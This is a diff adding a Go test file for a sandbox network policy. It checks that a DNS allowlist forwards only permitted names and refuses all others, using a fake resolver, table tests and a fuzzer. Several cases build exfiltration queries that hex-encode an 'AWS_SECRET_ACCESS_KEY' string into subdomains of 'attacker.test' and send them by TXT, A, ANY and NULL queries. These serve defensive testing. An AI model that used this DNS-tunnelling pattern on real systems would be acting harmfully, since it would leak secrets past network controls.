@@ -1,0 +1,373 @@
+package netpolicy
+
+import (
+	"context"
+	"encoding/hex"
+	"net"
+	"net/netip"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/miekg/dns"
+	"gvisor.dev/gvisor/pkg/tcpip"
+	"gvisor.dev/gvisor/pkg/tcpip/adapters/gonet"
+	"gvisor.dev/gvisor/pkg/tcpip/network/ipv4"
+)
+
+// fakeResolver stands in for the trusted resolver on loopback, over UDP
+// and TCP on one port: it answers every query and counts the names it
+// was asked.
+type fakeResolver struct {
+	addr string
+	mu   sync.Mutex
+	seen map[string]int // lower-case name with its dot -> queries
+}
+
+func newFakeResolver(t testing.TB) *fakeResolver {
+	r := &fakeResolver{seen: map[string]int{}}
+	h := dns.HandlerFunc(func(w dns.ResponseWriter, q *dns.Msg) {
+		r.mu.Lock()
+		for _, qq := range q.Question {
+			r.seen[strings.ToLower(qq.Name)]++
+		}
+		r.mu.Unlock()
+		m := new(dns.Msg)
+		m.SetReply(q)
+		if len(q.Question) > 0 && q.Question[0].Qtype == dns.TypeA {
+			m.Answer = append(m.Answer, &dns.A{Hdr: dns.RR_Header{Name: q.Question[0].Name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 5}, A: net.IPv4(93, 184, 216, 34)})
+		}
+		w.WriteMsg(m)
+	})
+	var (
+		pc  net.PacketConn
+		ln  net.Listener
+		err error
+	)
+	for try := 0; ; try++ {
+		if pc, err = net.ListenPacket("udp", "127.0.0.1:0"); err != nil {
+			t.Fatal(err)
+		}
+		if ln, err = net.Listen("tcp", pc.LocalAddr().String()); err == nil {
+			break
+		}
+		pc.Close()
+		if try == 10 {
+			t.Fatal(err)
+		}
+	}
+	r.addr = pc.LocalAddr().String()
+	for _, srv := range []*dns.Server{{PacketConn: pc, Handler: h}, {Listener: ln, Handler: h}} {
+		started := make(chan struct{})
+		srv.NotifyStartedFunc = func() { close(started) }
+		go srv.ActivateAndServe()
+		<-started
+		t.Cleanup(func() { srv.Shutdown() })
+	}
+	return r
+}
+
+// total is the number of questions the resolver was asked.
+func (r *fakeResolver) total() int {
+	r.mu.Lock()
+	defer r.mu.Unlock()
+	k := 0
+	for _, c := range r.seen {
+		k += c
+	}
+	return k
+}
+
+func (r *fakeResolver) count(name string) int {
+	r.mu.Lock()
+	defer r.mu.Unlock()
+	return r.seen[strings.ToLower(dns.Fqdn(name))]
+}
+
+// exchangeTCP sends one DNS query to the gateway over TCP.
+func (g *testGuest) exchangeTCP(m *dns.Msg) (*dns.Msg, error) {
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+	defer cancel()
+	c, err := gonet.DialContextTCP(ctx, g.s, tcpip.FullAddress{NIC: 1, Addr: tcpip.AddrFrom4(GatewayIP.As4()), Port: 53}, ipv4.ProtocolNumber)
+	if err != nil {
+		return nil, err
+	}
+	defer c.Close()
+	c.SetDeadline(time.Now().Add(5 * time.Second))
+	dc := &dns.Conn{Conn: c}
+	if err := dc.WriteMsg(m); err != nil {
+		return nil, err
+	}
+	return dc.ReadMsg()
+}
+
+// dnsBlocks returns the Blocked DNS events for host (as events name it).
+func dnsBlocks(n *Network, host string) []Event {
+	var out []Event
+	for _, e := range n.Events() {
+		if e.Proto == "dns" && e.Action == Blocked && e.Host == host {
+			out = append(out, e)
+		}
+	}
+	return out
+}
+
+// TestDNSAllowlist runs queries through the guest's real DNS path (the
+// gVisor stack, UDP and TCP) and checks which names reach the resolver.
+func TestDNSAllowlist(t *testing.T) {
+	res := newFakeResolver(t)
+	limited := func(mode DNSMode) Policy {
+		p := DefaultPolicy()
+		p.DNS = mode
+		p.DNSServers = []string{res.addr}
+		p.Allow = []string{"api.example.com", "*.allowed.test"}
+		p.Deny = []string{"bad.allowed.test"}
+		p.SSHAllow = []SSHHost{{Host: "git.example.org", Port: 22}}
+		p.SSHKnownHosts = []string{"/nonexistent/known_hosts"}
+		p.SSHAgent = "/nonexistent/agent.sock"
+		p.TCPMaps = []TCPMap{{GuestHost: "db.example.org", GuestPort: 5432, Upstream: "db.upstream.test:5432"}}
+		p.Resolve = []ResolvePin{{Host: "pinned.example.org", IP: netip.MustParseAddr("192.0.2.7")}}
+		return p
+	}
+	everything := DefaultPolicy()
+	everything.DNS = DNSTrusted
+	everything.DNSServers = []string{res.addr}
+	synthetic := limited(DNSSynthetic)
+	synthetic.DNSServers = nil
+
+	type guest struct {
+		n *Network
+		g *testGuest
+	}
+	guests := map[string]guest{}
+	for name, p := range map[string]Policy{
+		"trusted": limited(DNSTrusted), "open": limited(DNSOpen), "everything": everything, "synthetic": synthetic,
+	} {
+		n := newTestNetwork(t, p)
+		g := newTestGuest(t, n)
+		g.configure()
+		guests[name] = guest{n, g}
+	}
+	exfil := func(i int) string {
+		return hex.EncodeToString([]byte("AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI"))[:40] + "." + string(rune('a'+i)) + ".attacker.test"
+	}
+
+	for _, tc := range []struct {
+		name      string
+		guest     string
+		qname     string
+		qtype     uint16
+		tcp       bool
+		extra     string // a second question (open mode takes several)
+		rcode     int
+		forwarded bool
+		rule      string // of the Blocked event; "" for none
+	}{
+		{"allowed name", "trusted", "api.example.com", dns.TypeA, false, "", dns.RcodeSuccess, true, ""},
+		{"allowed name, any case", "trusted", "API.Example.COM", dns.TypeAAAA, false, "", dns.RcodeSuccess, true, ""},
+		{"allowed name, TXT", "trusted", "api.example.com", dns.TypeTXT, false, "", dns.RcodeSuccess, true, ""},
+		{"allowed wildcard", "trusted", "x.allowed.test", dns.TypeA, false, "", dns.RcodeSuccess, true, ""},
+		{"denied inside a wildcard", "trusted", "bad.allowed.test", dns.TypeA, false, "", dns.RcodeNameError, false, "deny bad.allowed.test"},
+		{"ssh-allow-host name", "trusted", "git.example.org", dns.TypeA, false, "", dns.RcodeSuccess, true, ""},
+		{"tcp-map guest name", "trusted", "db.example.org", dns.TypeA, false, "", dns.RcodeSuccess, true, ""},
+		{"resolve name", "trusted", "pinned.example.org", dns.TypeA, false, "", dns.RcodeSuccess, true, ""},
+		{"wildcard's own domain", "trusted", "allowed.test", dns.TypeA, false, "", dns.RcodeNameError, false, "not in allowlist"},
+		{"exfil TXT", "trusted", exfil(0), dns.TypeTXT, false, "", dns.RcodeNameError, false, "not in allowlist"},
+		{"exfil A", "trusted", exfil(1), dns.TypeA, false, "", dns.RcodeNameError, false, "not in allowlist"},
+		{"exfil ANY: the name is refused before the type", "trusted", exfil(2), dns.TypeANY, false, "", dns.RcodeNameError, false, "not in allowlist"},
+		{"exfil over TCP", "trusted", exfil(3), dns.TypeTXT, true, "", dns.RcodeNameError, false, "not in allowlist"},
+		{"IP literal as a name", "trusted", "1.2.3.4", dns.TypeA, false, "", dns.RcodeNameError, false, "not a host name"},
+		{"open: exfil TXT", "open", exfil(4), dns.TypeTXT, false, "", dns.RcodeNameError, false, "not in allowlist"},
+		{"open: exfil NULL over TCP", "open", exfil(5), dns.TypeNULL, true, "", dns.RcodeNameError, false, "not in allowlist"},
+		{"open: allowed name", "open", "y.allowed.test", dns.TypeSRV, false, "", dns.RcodeSuccess, true, ""},
+		{"open: an exfil second question", "open", "z.allowed.test", dns.TypeA, false, exfil(6), dns.RcodeNameError, false, "not in allowlist"},
+		{"no allowlist: every name goes", "everything", "anything.example.net", dns.TypeTXT, false, "", dns.RcodeSuccess, true, ""},
+		{"synthetic: answered, nothing sent", "synthetic", exfil(7), dns.TypeA, false, "", dns.RcodeSuccess, false, ""},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			gu := guests[tc.guest]
+			m := new(dns.Msg)
+			m.SetQuestion(dns.Fqdn(tc.qname), tc.qtype)
+			if tc.extra != "" {
+				m.Question = append(m.Question, dns.Question{Name: dns.Fqdn(tc.extra), Qtype: dns.TypeA, Qclass: dns.ClassINET})
+			}
+			exchange := gu.g.exchange
+			if tc.tcp {
+				exchange = gu.g.exchangeTCP
+			}
+			r, err := exchange(m)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if r.Rcode != tc.rcode {
+				t.Errorf("rcode %s, want %s", dns.RcodeToString[r.Rcode], dns.RcodeToString[tc.rcode])
+			}
+			if got := res.count(tc.qname) > 0; got != tc.forwarded {
+				t.Errorf("resolver saw %s: %v, want %v", tc.qname, got, tc.forwarded)
+			}
+			if tc.extra != "" && res.count(tc.extra) > 0 {
+				t.Errorf("resolver saw %s", tc.extra)
+			}
+			host := strings.ToLower(tc.qname)
+			if tc.extra != "" {
+				host = tc.extra // the question refused
+			}
+			blocks := dnsBlocks(gu.n, host)
+			switch {
+			case tc.rule == "" && len(blocks) > 0:
+				t.Errorf("unexpected events %+v", blocks)
+			case tc.rule != "" && len(blocks) != 1:
+				t.Errorf("events %+v, want one block", blocks)
+			case tc.rule != "":
+				if e := blocks[0]; e.Rule != tc.rule || (tc.extra == "" && e.Method != dns.TypeToString[tc.qtype]) || !strings.Contains(e.Reason, "--allow-host") {
+					t.Errorf("event %+v, want rule %q, method %s", e, tc.rule, dns.TypeToString[tc.qtype])
+				}
+			}
+			if tc.guest == "synthetic" {
+				if len(r.Answer) != 1 || !SyntheticPrefix.Contains(netip.MustParseAddr(r.Answer[0].(*dns.A).A.String())) {
+					t.Errorf("synthetic answer %v", r.Answer)
+				}
+			}
+		})
+	}
+
+	// Policy changes apply to the next query.
+	t.Run("live policy", func(t *testing.T) {
+		gu := guests["trusted"]
+		ask := func(name string) int {
+			t.Helper()
+			r, err := gu.g.query(name, dns.TypeA)
+			if err != nil {
+				t.Fatal(err)
+			}
+			return r.Rcode
+		}
+		if rc := ask("later.example.net"); rc != dns.RcodeNameError || res.count("later.example.net") != 0 {
+			t.Fatalf("before allow: rcode %d, resolver saw %d", rc, res.count("later.example.net"))
+		}
+		if err := gu.n.UpdatePolicy(func(p *Policy) error { return p.AllowHost("later.example.net") }); err != nil {
+			t.Fatal(err)
+		}
+		if rc := ask("later.example.net"); rc != dns.RcodeSuccess || res.count("later.example.net") != 1 {
+			t.Fatalf("after allow: rcode %d, resolver saw %d", rc, res.count("later.example.net"))
+		}
+		before := res.count("api.example.com")
+		if err := gu.n.UpdatePolicy(func(p *Policy) error { return p.DenyHost("api.example.com") }); err != nil {
+			t.Fatal(err)
+		}
+		if rc := ask("api.example.com"); rc != dns.RcodeNameError || res.count("api.example.com") != before {
+			t.Fatalf("after deny: rcode %d, resolver saw %d more", rc, res.count("api.example.com")-before)
+		}
+	})
+}
+
+func TestDNSRule(t *testing.T) {
+	p := Policy{
+		Allow:    []string{"*.example.com", "exact.test"},
+		Deny:     []string{"*.corp.example.com", "ssh.example.com"},
+		SSHAllow: []SSHHost{{Host: "git.corp.example.com", Port: 22}, {Host: "ssh.example.com", Port: 22}},
+		TCPMaps:  []TCPMap{{GuestHost: "DB.test", GuestPort: 5432, Upstream: "10.0.0.1:5432"}},
+		Resolve:  []ResolvePin{{Host: "pin.test", IP: netip.MustParseAddr("127.0.0.1")}},
+	}
+	for _, tc := range []struct {
+		qname string
+		rule  string
+		ok    bool
+	}{
+		{"a.example.com.", "allow *.example.com", true},
+		{"EXACT.test.", "allow exact.test", true},
+		{"x.corp.example.com.", "deny *.corp.example.com", false},
+		{"git.corp.example.com.", "ssh-allow git.corp.example.com:22", true}, // more specific than the deny
+		{"ssh.example.com.", "deny ssh.example.com", false},                  // a tie: deny wins
+		{"db.test.", "tcp-map DB.test:5432=10.0.0.1:5432", true},
+		{"pin.test.", "resolve pin.test", true},
+		{"other.test.", "not in allowlist", false},
+		{"example.com.", "not in allowlist", false},
+		{"1.2.3.4.", "not a host name", false},
+		{"0x7f.1.", "not a host name", false},
+		{`a\.b.example.com.`, "not a host name", false},
+		{`a\000.example.com.`, "not a host name", false},
+		{"a:80.example.com.", "not a host name", false},
+		{".", "not a host name", false},
+	} {
+		rule, ok := p.dnsRule(tc.qname)
+		if rule != tc.rule || ok != tc.ok {
+			t.Errorf("dnsRule(%q) = %q, %v; want %q, %v", tc.qname, rule, ok, tc.rule, tc.ok)
+		}
+	}
+	if rule, ok := (&Policy{}).dnsRule("a.test."); ok || rule != "allowlist is empty" {
+		t.Errorf("empty allowlist: %q %v", rule, ok)
+	}
+	every := DefaultPolicy()
+	if _, ok := every.dnsRule("_dmarc.x.example."); !ok {
+		t.Error("a policy allowing every host refused a name")
+	}
+	every.Deny = []string{"x.example"}
+	if _, ok := every.dnsRule("x.example."); ok {
+		t.Error("a deny on a policy allowing every host did not apply")
+	}
+}
+
+// FuzzDNSAllowlist feeds guest bytes to trusted and open DNS under a
+// policy that limits hosts, with a loopback resolver behind: every answer
+// must parse, and a query with a name the policy refuses must get
+// NXDOMAIN without the resolver seeing anything.
+func FuzzDNSAllowlist(f *testing.F) {
+	for _, q := range []struct {
+		name string
+		typ  uint16
+	}{
+		{"api.example.com.", dns.TypeA}, {"x.allowed.test.", dns.TypeTXT}, {"6162.attacker.test.", dns.TypeTXT},
+		{"bad.allowed.test.", dns.TypeAAAA}, {"1.2.3.4.", dns.TypeA}, {`a\.allowed.test.`, dns.TypeA}, {".", dns.TypeNS},
+	} {
+		m := new(dns.Msg)
+		m.SetQuestion(q.name, q.typ)
+		b, _ := m.Pack()
+		f.Add(b)
+		m.SetEdns0(4096, true)
+		m.Question = append(m.Question, dns.Question{Name: "z.attacker.test.", Qtype: dns.TypeA, Qclass: dns.ClassINET})
+		b, _ = m.Pack()
+		f.Add(b)
+	}
+	res := newFakeResolver(f)
+	var nets []*Network
+	for _, mode := range []DNSMode{DNSTrusted, DNSOpen} {
+		p := DefaultPolicy()
+		p.DNS, p.DNSServers = mode, []string{res.addr}
+		p.Allow = []string{"api.example.com", "*.allowed.test"}
+		p.Deny = []string{"bad.allowed.test"}
+		nets = append(nets, newTestNetwork(f, p))
+	}
+	f.Fuzz(func(t *testing.T, q []byte) {
+		req := new(dns.Msg)
+		refused := false
+		if req.Unpack(q) == nil {
+			for _, qq := range req.Question {
+				if _, ok := nets[0].policy.Load().dnsRule(qq.Name); !ok {
+					refused = true
+				}
+			}
+		}
+		for _, n := range nets {
+			for _, tcp := range []bool{false, true} {
+				before := res.total()
+				out := n.answerDNS(context.Background(), n.policy.Load(), q, tcp)
+				if refused && res.total() != before {
+					t.Fatalf("a refused name reached the resolver: %v", req.Question)
+				}
+				if out == nil {
+					continue
+				}
+				m := new(dns.Msg)
+				if err := m.Unpack(out); err != nil {
+					t.Fatalf("answer does not parse: %v", err)
+				}
+				if refused && m.Rcode != dns.RcodeNameError && m.Rcode != dns.RcodeFormatError &&
+					m.Rcode != dns.RcodeNotImplemented && m.Rcode != dns.RcodeRefused {
+					t.Fatalf("refused name answered %s", dns.RcodeToString[m.Rcode])
+				}
+			}
+		}
+	})
+}
